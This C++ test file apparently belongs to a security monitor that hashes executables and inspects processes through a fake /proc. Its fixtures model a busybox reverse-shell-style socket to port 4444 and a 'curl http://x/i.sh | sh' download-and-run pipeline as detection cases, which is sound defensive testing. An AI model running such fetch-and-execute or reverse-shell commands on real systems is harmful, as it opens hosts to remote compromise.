// ExecutableHasher (SHA-256, the identity cache, its bound and counters),
// FsFileOpener on a real file, and ProcessInspector over a fake /proc:
// stream targets, TCP/UDP endpoints of sockets, pipe peers, a process gone.
#define BOOST_TEST_MODULE inspector
#include <boost/test/unit_test.hpp>

#include <unistd.h>

#include <cstdlib>
#include <fstream>

#include "core/counters.h"
#include "enrich/executable_hasher.h"
#include "enrich/fs_file_opener.h"
#include "enrich/process_inspector.h"
#include "enrich/sha256.h"
#include "support/fake_proc.h"
#include "support/counter_value.h"

using cshield::testing::counter_value;

using namespace cshield;
using testing::FakeProc;

namespace {

const std::string kAbc = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";  // SHA-256("abc")

// /proc/net/tcp as the kernel prints it: a connection 127.0.0.1:40000 ->
// 127.0.0.1:4444 (inode 5001) and a listener on 0.0.0.0:4444 (inode 5000).
const char* kTcp =
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
    "   0: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 5000 1 0 100 0 0 10 0\n"
    "   1: 0100007F:9C40 0100007F:115C 01 00000000:00000000 00:00000000 00000000     0        0 5001 1 0 20 4 30 10 -1\n";
// ::1 port 8080 -> ::1 port 51000 (inode 6001).
const char* kTcp6 =
    "  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
    "   0: 00000000000000000000000001000000:1F90 00000000000000000000000001000000:C738 01 00000000:00000000 00:00000000 00000000     0        0 6001 1 0 20 4 30 10 -1\n";

}  // namespace

BOOST_AUTO_TEST_CASE(sha256_of_known_input) {
  BOOST_TEST(sha256_hex("abc") == kAbc);
  BOOST_TEST(sha256_hex("") == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
}

BOOST_AUTO_TEST_CASE(a_hot_binary_is_hashed_once_and_a_changed_one_again) {
  FakeProc proc;
  proc.process(10, "/usr/bin/abc", "abc", 77);
  proc.process(11, "/usr/bin/abc", "abc", 77);  // same file, another process
  Counters counters;
  ExecutableHasher hasher(proc, &counters);

  auto first = hasher.hash("/proc/10/exe");
  BOOST_TEST((first.status == FileHash::Status::kOk));
  BOOST_TEST(first.sha256 == kAbc);
  BOOST_TEST(!first.cached);
  auto second = hasher.hash("/proc/11/exe");
  BOOST_TEST(second.sha256 == kAbc);
  BOOST_TEST(second.cached);
  BOOST_TEST(proc.bytes_read == 3u);  // read once
  BOOST_TEST(counter_value(counters, "enrich.hashes_computed") == 1u);
  BOOST_TEST(counter_value(counters, "enrich.hash_cache_hits") == 1u);

  // Same inode, new contents and mtime (rewritten in place): a miss.
  proc.executables["/proc/11/exe"].contents = "abd";
  proc.executables["/proc/11/exe"].identity.mtime_ns += 1;
  auto third = hasher.hash("/proc/11/exe");
  BOOST_TEST(!third.cached);
  BOOST_TEST(third.sha256 == sha256_hex("abd"));
  BOOST_TEST(counter_value(counters, "enrich.hashes_computed") == 2u);
}

BOOST_AUTO_TEST_CASE(the_cache_is_bounded_and_large_files_are_not_hashed) {
  FakeProc proc;
  for (int pid = 1; pid <= 3; ++pid) proc.process(pid, "/bin/p" + std::to_string(pid), "x" + std::to_string(pid), pid);
  proc.process(4, "/bin/big", std::string(100, 'b'), 4);
  ExecutableHasherOptions o;
  o.cache_entries = 2;
  o.max_bytes = 50;
  Counters counters;
  ExecutableHasher hasher(proc, &counters, o);
  for (int pid = 1; pid <= 3; ++pid) hasher.hash("/proc/" + std::to_string(pid) + "/exe");
  BOOST_TEST(hasher.cached_entries() == 2u);
  BOOST_TEST(!hasher.hash("/proc/1/exe").cached);  // evicted
  BOOST_TEST(hasher.hash("/proc/3/exe").cached);

  auto big = hasher.hash("/proc/4/exe");
  BOOST_TEST((big.status == FileHash::Status::kTooLarge));
  BOOST_TEST(big.problem().find("larger") != std::string::npos);
  auto gone = hasher.hash("/proc/99/exe");
  BOOST_TEST((gone.status == FileHash::Status::kMissing));
  BOOST_TEST(gone.problem().find("gone") != std::string::npos);
  BOOST_TEST(counter_value(counters, "enrich.hashes_unavailable") == 2u);
}

BOOST_AUTO_TEST_CASE(fs_file_opener_hashes_a_real_file_and_reports_a_missing_one) {
  char dir[] = "/tmp/cshield-hash-XXXXXX";
  BOOST_REQUIRE(::mkdtemp(dir));
  const std::string root = dir;
  { std::ofstream(root + "/prog") << "abc"; }
  FsFileOpener opener(root);
  ExecutableHasher hasher(opener);
  auto h = hasher.hash("/prog");
  BOOST_TEST(h.sha256 == kAbc);
  BOOST_TEST(h.identity.size == 3u);
  BOOST_TEST(h.identity.inode != 0u);
  BOOST_TEST(hasher.hash("/prog").cached);
  BOOST_TEST((hasher.hash("/absent").status == FileHash::Status::kMissing));
  BOOST_TEST((hasher.hash("/").status == FileHash::Status::kUnreadable));  // a directory
  ::unlink((root + "/prog").c_str());
  ::rmdir(dir);
}

BOOST_AUTO_TEST_CASE(net_tables_give_socket_endpoints) {
  BOOST_TEST(find_socket_in_net_table(kTcp, "tcp", "5001") == "tcp 127.0.0.1:40000 -> 127.0.0.1:4444");
  BOOST_TEST(find_socket_in_net_table(kTcp, "tcp", "5000") == "tcp 0.0.0.0:4444 -> 0.0.0.0:0");
  BOOST_TEST(find_socket_in_net_table(kTcp, "tcp", "500").empty());
  BOOST_TEST(find_socket_in_net_table(kTcp6, "tcp6", "6001") == "tcp [::1]:8080 -> [::1]:51000");
}

BOOST_AUTO_TEST_CASE(inspect_reads_streams_sockets_and_hash) {
  FakeProc proc;
  proc.process(42, "/bin/busybox", "abc");
  proc.fd(42, 0, "socket:[5001]");
  proc.fd(42, 1, "socket:[5001]");
  proc.fd(42, 2, "/dev/null");
  proc.files["/proc/42/net/tcp"] = kTcp;
  ExecutableHasher hasher(proc);
  ProcessInspector inspector(proc, hasher);
  const auto f = inspector.inspect(42, 1);
  BOOST_TEST(!f.process_gone);
  BOOST_TEST(f.exe_link == "/bin/busybox");
  BOOST_REQUIRE(f.sha256);
  BOOST_TEST(*f.sha256 == kAbc);
  BOOST_REQUIRE(f.streams.size() == 3u);
  BOOST_TEST(f.stream(0)->network == "tcp 127.0.0.1:40000 -> 127.0.0.1:4444");
  BOOST_TEST(f.stream(2)->target == "/dev/null");
  BOOST_TEST(f.stream(2)->network.empty());
}

BOOST_AUTO_TEST_CASE(a_unix_socket_is_not_a_network_socket) {
  FakeProc proc;
  proc.process(42, "/bin/sh", "sh");
  proc.fd(42, 0, "socket:[7000]");
  proc.files["/proc/42/net/tcp"] = kTcp;
  proc.files["/proc/42/net/unix"] = "Num RefCount Protocol Flags Type St Inode Path\n0: 00000002 0 0 1 01 7000\n";
  ExecutableHasher hasher(proc);
  const auto f = ProcessInspector(proc, hasher).inspect(42, 1);
  BOOST_TEST(f.stream(0)->target == "socket:[7000]");
  BOOST_TEST(f.stream(0)->network.empty());
}

BOOST_AUTO_TEST_CASE(inspect_finds_the_siblings_on_both_ends_of_a_pipe) {
  FakeProc proc;
  // Parent 10 runs `curl URL | sh`: 11 is curl (stdout pipe 900), 12 sh (stdin pipe 900).
  proc.process(11, "/usr/bin/curl", "curl");
  proc.files["/proc/11/cmdline"] = std::string("curl\0-s\0http://x/i.sh\0", 23);
  proc.fd(11, 0, "/dev/null");
  proc.fd(11, 1, "pipe:[900]");
  proc.process(12, "/bin/sh", "sh");
  proc.files["/proc/12/cmdline"] = std::string("sh\0", 3);
  proc.fd(12, 0, "pipe:[900]");
  proc.fd(12, 1, "pipe:[901]");
  proc.process(13, "/bin/cat", "cat");  // an unrelated sibling
  proc.fd(13, 1, "pipe:[555]");
  proc.files["/proc/10/task/10/children"] = "11 12 13 ";
  ExecutableHasher hasher(proc);
  ProcessInspector inspector(proc, hasher);

  const auto sh = inspector.inspect(12, 10);
  BOOST_REQUIRE(sh.stdin_writers.size() == 1u);
  BOOST_TEST(sh.stdin_writers[0].pid == 11);
  BOOST_TEST(sh.stdin_writers[0].comm == "curl");
  BOOST_TEST(sh.stdin_writers[0].cmdline == "curl -s http://x/i.sh");
  BOOST_TEST(sh.stdout_readers.empty());

  const auto curl = inspector.inspect(11, 10);
  BOOST_TEST(curl.stdin_writers.empty());
  BOOST_REQUIRE(curl.stdout_readers.size() == 1u);
  BOOST_TEST(curl.stdout_readers[0].pid == 12);
}

BOOST_AUTO_TEST_CASE(a_process_already_gone_says_so) {
  FakeProc proc;
  ExecutableHasher hasher(proc);
  const auto f = ProcessInspector(proc, hasher).inspect(4242, 1);
  BOOST_TEST(f.process_gone);
  BOOST_TEST(!f.sha256);
  BOOST_TEST(f.hash_problem.find("gone") != std::string::npos);
  BOOST_TEST(f.streams.empty());
}
